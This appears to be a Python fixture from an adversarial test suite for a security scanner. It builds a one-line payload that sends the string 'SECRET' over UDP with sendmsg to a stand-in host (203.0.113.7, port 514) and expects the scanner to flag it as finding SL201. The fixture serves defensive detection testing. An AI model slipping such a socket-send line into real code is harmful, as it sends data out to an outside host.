"""Class: exfiltration. sendmsg, whose destination lies in memory."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, checkpoint, run

EXPECT = {"address": ADDRESS, "port": 514, "data": "SECRET", "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'SECRET'], [], 0, ('203.0.113.7', 514))"
    return checkpoint(folder, run(source))
